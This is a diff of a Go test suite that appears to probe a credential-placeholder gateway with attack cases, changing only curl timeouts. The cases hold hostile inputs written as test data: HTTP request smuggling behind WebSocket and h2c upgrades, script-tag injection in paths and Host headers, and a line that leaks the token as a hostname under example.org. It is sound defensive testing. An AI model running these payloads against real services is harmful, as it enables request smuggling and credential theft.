@@ -44,7 +44,7 @@ type adder func(id, what, run, refused, rule, control string)
 const (
 	lentHead = `Host: {O}\r\n`
 	lentAuth = `Authorization: Bearer {P}\r\n`
-	lentOK   = `curl -sSf -o o.$$ --max-time 8 -D h.$$ -H "Authorization: Bearer $API_TOKEN" https://{H}/v1/x && grep -qi 'x-lent: yes' h.$$`
+	lentOK   = `curl -sSf -o o.$$ --max-time $SOON -D h.$$ -H "Authorization: Bearer $API_TOKEN" https://{H}/v1/x && grep -qi 'x-lent: yes' h.$$`
 	lentOK1  = `$A lent1 {O} 'GET /v1/x HTTP/1.1\r\n` + lentHead + lentAuth + `\r\n' lent`
 	lentOK2  = `$A lent2 {H} lent 'authorization=Bearer {P}'`
 )
@@ -73,10 +73,10 @@ func (l *lender) nameAttacks(add adder) {
 	add("C19a", "inspected: TRACE", `$A lent1 {O} 'TRACE /v1/x HTTP/1.1\r\n`+lentHead+lentAuth+`\r\n'`, "405 method-closed", "method-closed", lentOK1)
 	add("C19b", "inspected, HTTP/2: TRACE", "$A lent2 {H} '' ':method=TRACE' "+auth, "405 method-closed", "method-closed", lentOK2)
 	add("C19c", "inspected: Trace, by another case", `$A lent1 {O} 'Trace /v1/x HTTP/1.1\r\n`+lentHead+lentAuth+`\r\n'`, "403 placeholder-misused", "placeholder-misused", lentOK1)
-	add("C5a", "HTTP in clear to a lent host", `curl -sS -D - --max-time 8 -H "Authorization: Bearer $API_TOKEN" http://{C}/v1/x | grep -i 'x-server' && exit 0; curl -sSi --max-time 8 -H "Authorization: Bearer $API_TOKEN" http://{C}/v1/x | grep -i cofferdam-denied; exit 1`, "placeholder-misused", "placeholder-misused", "")
-	add("C5b", "HTTP in clear with the lent host's name in Host", `curl -sSi --max-time 8 -H 'Host: ok.lent.example.com:{both}' -H "Authorization: Bearer $API_TOKEN" http://{C}/v1/x | tee o.$$; grep -qi x-server o.$$`, "name-mismatch", "name-mismatch", "")
-	add("C5c", "HTTP in clear to the port of TLS", `curl -sSi --max-time 8 -H "Authorization: Bearer $API_TOKEN" http://{O}/v1/x | tee o.$$; grep -qi 'x-server' o.$$`, "placeholder-misused", "placeholder-misused", "")
-	add("C27", "a program that does not know the authority (controls: openssl, python, node, git and go do)", `openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -keyout k.$$ -out c.$$ -subj /CN=pinned -days 1 2>/dev/null; curl -sS --cacert c.$$ --max-time 8 https://{H}/v1/x`,
+	add("C5a", "HTTP in clear to a lent host", `curl -sS -D - --max-time $SOON -H "Authorization: Bearer $API_TOKEN" http://{C}/v1/x | grep -i 'x-server' && exit 0; curl -sSi --max-time $SOON -H "Authorization: Bearer $API_TOKEN" http://{C}/v1/x | grep -i cofferdam-denied; exit 1`, "placeholder-misused", "placeholder-misused", "")
+	add("C5b", "HTTP in clear with the lent host's name in Host", `curl -sSi --max-time $SOON -H 'Host: ok.lent.example.com:{both}' -H "Authorization: Bearer $API_TOKEN" http://{C}/v1/x | tee o.$$; grep -qi x-server o.$$`, "name-mismatch", "name-mismatch", "")
+	add("C5c", "HTTP in clear to the port of TLS", `curl -sSi --max-time $SOON -H "Authorization: Bearer $API_TOKEN" http://{O}/v1/x | tee o.$$; grep -qi 'x-server' o.$$`, "placeholder-misused", "placeholder-misused", "")
+	add("C27", "a program that does not know the authority (controls: openssl, python, node, git and go do)", `openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -keyout k.$$ -out c.$$ -subj /CN=pinned -days 1 2>/dev/null; curl -sS --cacert c.$$ --max-time $SOON https://{H}/v1/x`,
 		"certificate", "inspection-refused", lentTrust)
 }
 
@@ -121,7 +121,7 @@ func (l *lender) framingAttacks(add adder) {
 	add("C8i", "inspected: a WebSocket that the server did not open, and a request behind it", `$A lent1 {O} 'GET /v1/x HTTP/1.1\r\n`+lentHead+lentAuth+`Connection: Upgrade\r\nUpgrade: websocket\r\n\r\nGET /v1/smuggled HTTP/1.1\r\nHost: elsewhere.example.com\r\n\r\n' 'max=1 least=1'`, "1 answers|421", "", lentOK1)
 	add("C15u", "inspected: an upgrade to HTTP/2 in clear", `$A lent1 {O} 'GET /v1/x HTTP/1.1\r\n`+lentHead+lentAuth+`Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\n\r\nPRI * HTTP/2.0\r\n\r\nSM\r\n\r\n' 'max=1 least=1'`, "200 of the server", "", lentOK1)
 	add("C28a", "a refusal that shows what was asked", `$A lent1 {O} 'GET /v1/<script>alert(1)</script>?{P} HTTP/1.1\r\nHost: <script>alert(1)</script>\r\nX-<b>: 1\r\n\r\n' >o.$$; cat o.$$; grep -q '200' o.$$ && exit 0; sed 's/.*\] "//' o.$$ | grep -qi '<script\|text/html' && exit 0; exit 1`, "400|421|403", "", lentOK1)
-	add("C28b", "a refusal as a page", `curl -sSi --max-time 8 "https://{H}/v1/%3Cscript%3E?t=$API_TOKEN" | tee o.$$; grep -qi 'x-server\|text/html\|<script\|'"$API_TOKEN" o.$$`, "(?i)text/plain", "placeholder-misused", "")
+	add("C28b", "a refusal as a page", `curl -sSi --max-time $SOON "https://{H}/v1/%3Cscript%3E?t=$API_TOKEN" | tee o.$$; grep -qi 'x-server\|text/html\|<script\|'"$API_TOKEN" o.$$`, "(?i)text/plain", "placeholder-misused", "")
 	add("C18", "inspected: an IPv6 address in two pairs of brackets", `$A lent1 {O} 'GET https://[[::1]]:{old}/v1/x HTTP/1.1\r\n`+lentHead+lentAuth+`\r\n'`, "421 name-mismatch", "name-mismatch", lentOK1)
 	for i, target := range []string{"https://elsewhere.example.com:{old}/v1/x", "http://{O}/v1/x", "//elsewhere.example.com/v1/x", "elsewhere.example.com:443", "https://{O}@elsewhere.example.com/v1/x", "*", "v1/x"} {
 		add(fmt.Sprintf("C3t%d", i), "inspected: the target "+quotedPlace(target), `$A lent1 {O} 'GET `+target+` HTTP/1.1\r\n`+lentHead+lentAuth+`\r\n'`, "421 |400 |403 ", "", lentOK1)
@@ -184,9 +184,9 @@ func (l *lender) boundAttacks(add adder) {
 	echo("C22b", "an echo behind eight megabytes", "long", "")
 	echo("C23a", "a compressed echo, undone inside", "gzip", "--compressed")
 	for i, encoding := range []string{"br", "zstd", "deflate"} {
-		add(fmt.Sprintf("C23%c", 'b'+i), "an answer in an encoding that was not asked for: "+encoding, `curl -sSi --max-time 8 -H 'Accept-Encoding: `+encoding+`' -H "Authorization: Bearer $API_TOKEN" https://{H}/v1/`+encoding+` | tee o.$$; grep -qi 'x-server' o.$$`, "502", "", "")
+		add(fmt.Sprintf("C23%c", 'b'+i), "an answer in an encoding that was not asked for: "+encoding, `curl -sSi --max-time $SOON -H 'Accept-Encoding: `+encoding+`' -H "Authorization: Bearer $API_TOKEN" https://{H}/v1/`+encoding+` | tee o.$$; grep -qi 'x-server' o.$$`, "502", "", "")
 	}
-	add("C23e", "the placeholder in a compressed body: it is swapped for nothing", `printf 'a=%s' "$API_TOKEN" | gzip >b.$$; curl -sSi --max-time 8 --data-binary @b.$$ -H 'Content-Encoding: gzip' https://{H}/v1/x | tee o.$$; grep -qi 'x-lent: yes' o.$$`, "(?i)x-lent: no", "", "")
+	add("C23e", "the placeholder in a compressed body: it is swapped for nothing", `printf 'a=%s' "$API_TOKEN" | gzip >b.$$; curl -sSi --max-time $SOON --data-binary @b.$$ -H 'Content-Encoding: gzip' https://{H}/v1/x | tee o.$$; grep -qi 'x-lent: yes' o.$$`, "(?i)x-lent: no", "", "")
 	for i, protocol := range []string{"http/1.1", "h2"} {
 		add(fmt.Sprintf("C20%c", 'a'+i), "one connection with the credential and without ("+protocol+"): the gateway's own are apart", "$A routes {H} "+protocol, "connections, none with both", "", "")
 		add(fmt.Sprintf("D7%c", 'a'+i), "bytes of every kind beside the placeholder ("+protocol+")", "$A body {H} "+protocol, "intact", "", "")
@@ -256,11 +256,11 @@ func (l *lender) placeholderAttacks(add adder) {
 	add("D6b", "HTTP/2: a placeholder in header and body", `$A lent2 {H} 'body=x{P}' 'authorization=Bearer {P}'`, misused+"|0 answers", "placeholder-misused", lentOK2)
 	add("D6c", "a placeholder that fills a header line behind the lent one, without a body's length", `$A lent1 {O} '`+body+lentAuth+`\r\n{P}\r\n\r\n' 'max=1 least=1'`, "200 of the server|400", "", lentOK1)
 	for i, x := range [][2]string{{"another host", "elsewhere.example.com:{both}"}, {"another port", "{C}"}} {
-		add(fmt.Sprintf("D1h%d", i), "a placeholder at "+x[0], `for s in https http; do curl -sSi --max-time 8 -H "Authorization: Bearer $API_TOKEN" $s://`+x[1]+`/v1/x; done | tee o.$$; grep -qi 'x-lent: yes' o.$$ && exit 0; exit 1`, "(?i)cofferdam-denied: placeholder-misused|wrong version|x-lent: no", "", "")
+		add(fmt.Sprintf("D1h%d", i), "a placeholder at "+x[0], `for s in https http; do curl -sSi --max-time $SOON -H "Authorization: Bearer $API_TOKEN" $s://`+x[1]+`/v1/x; done | tee o.$$; grep -qi 'x-lent: yes' o.$$ && exit 0; exit 1`, "(?i)cofferdam-denied: placeholder-misused|wrong version|x-lent: no", "", "")
 	}
 	add("D9", "one credential's placeholder at another's host and header", `$A lent2 key.lent.example.com:{both} '' 'x-api-key={P}'; $A lent2 key.lent.example.com:{both} '' 'authorization=Bearer {K}'`, misused, "", `$A lent2 key.lent.example.com:{both} lent 'x-api-key={K}'`)
 	add("D10a", "the token endpoint cannot be reached", `curl -sSi --max-time 15 https://down.lent.example.com:{both}/v1/x | tee o.$$; grep -qi x-server o.$$`, "credential-unavailable", "", "")
-	add("D13a", "a placeholder as a name", `curl -sS --max-time 8 "https://$API_TOKEN.example.org/"; n=$(printf %s "$API_TOKEN" | tr -d _ | tr A-Z a-z); curl -sS --max-time 8 "https://$n.example.org/"`, noName, "", "")
+	add("D13a", "a placeholder as a name", `curl -sS --max-time $SOON "https://$API_TOKEN.example.org/"; n=$(printf %s "$API_TOKEN" | tr -d _ | tr A-Z a-z); curl -sS --max-time $SOON "https://$n.example.org/"`, noName, "", "")
 	add("D13b", "a placeholder as server name", `$A lent1 {O} 'GET /v1/x HTTP/1.1\r\n`+lentHead+`\r\n' sni=$API_TOKEN.example.com`, refusal, "", lentOK1)
 }
 
@@ -282,7 +282,7 @@ func (l *lender) foreignAttacks(add adder) {
 	}
 	add("D14c", "of one's own beside the placeholder", `$A lent1 {O} 'GET /v1/x HTTP/1.1\r\n`+lentHead+lentAuth+`Authorization: Bearer of-my-own\r\n\r\n'`, refused, rule, lentOK1)
 	add("D14d", "HTTP/2: of one's own beside the placeholder", `$A lent2 {H} '' 'authorization=Bearer {P}' 'authorization=Bearer of-my-own'`, refused, rule, lentOK2)
-	add("D14e", "user and password in the URL", `curl -sSi --max-time 8 https://me:of-my-own@{H}/v1/x | tee o.$$; grep -qi x-server o.$$`, "foreign-credential", rule, "")
+	add("D14e", "user and password in the URL", `curl -sSi --max-time $SOON https://me:of-my-own@{H}/v1/x | tee o.$$; grep -qi x-server o.$$`, "foreign-credential", rule, "")
 	add("D14f", "the placeholder with something behind it", `$A lent1 {O} 'GET /v1/x HTTP/1.1\r\n`+lentHead+`Authorization: Bearer {P}x, Bearer of-my-own\r\n\r\n' ''  | tee o.$$; grep -q 'lent: no' o.$$`, "lent: yes", "", lentOK1)
 	add("D14g", "a client's own certificate: TLS that was ended asks for none", `openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -keyout k.$$ -out c.$$ -subj /CN=me -days 1 2>/dev/null; openssl s_client -connect {H} -servername {h} -cert c.$$ -key k.$$ </dev/null 2>&1 | tee o.$$ | grep -i 'client certificate'; grep -qi 'no client certificate ca names sent' o.$$ || exit 0; exit 1`, "(?i)no client certificate", "", "")
 }
